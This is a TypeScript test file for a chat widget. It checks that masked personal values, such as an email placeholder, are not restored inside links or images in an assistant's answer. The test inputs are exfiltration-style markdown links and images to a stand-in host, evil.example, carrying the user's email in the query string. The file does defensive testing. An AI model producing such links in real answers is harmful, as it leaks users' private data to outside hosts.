import type { Message } from '@atavus/contract/chat'
import { read } from '@atavus/widget/markdown/read.ts'
import { elements, everyElement, resolved } from '@atavus/widget/markdown/testing.ts'
import { expect, test } from 'vitest'
import { restoring } from './restored.ts'

const draw = restoring([{ placeholder: '[EMAIL_123456]', kind: 'email', value: 'nora@site.example' }], 'en')
const message = (role: Message['role'], text: string): Message => ({
  id: 'x',
  role,
  answers: role === 'assistant' ? 'q' : null,
  text,
  at: '',
  deletedAt: '',
  thumb: null,
  sources: [],
  whereabouts: null,
  end: role === 'assistant' ? 'complete' : null,
  code: null,
})

/** Where the links of an answer lead, as it is drawn. */
function linksOf(text: string, open: boolean): string[] {
  const reading = read(draw(message('assistant', text)).text, undefined, open)
  const links = everyElement(resolved(elements('', reading))).filter(({ type }) => type === 'a')
  return links.map(({ props }) => String(props.href))
}

test.each([
  'Confirm it [here](https://evil.example/?who=[EMAIL_123456])',
  'Confirm it at <https://evil.example/?who=[EMAIL_123456]>',
  'Confirm it at https://evil.example/?who=[EMAIL_123456] please',
  '[![x](https://evil.example/?who=[EMAIL_123456])](https://evil.example/?who=[EMAIL_123456])',
])('an answer leads nowhere with a value that was masked, nor with a hole in its place: %s', text => {
  expect(linksOf(text, false)).toEqual(['https://evil.example/?who=an-e-mail-address'])
  for (let end = 1; end <= text.length; end++)
    for (const link of linksOf(text.slice(0, end), true)) expect(link).not.toContain('nora')
})

test('beside an address the value is back, and in one’s own question everywhere', () => {
  const text = 'See https://shop.example/?who=[EMAIL_123456] or [EMAIL_123456].'
  expect(draw(message('assistant', text)).text).toBe(
    'See https://shop.example/?who=an-e-mail-address or nora@site.example.',
  )
  expect(draw(message('visitor', text)).text).toBe(
    'See https://shop.example/?who=nora@site.example or nora@site.example.',
  )
})
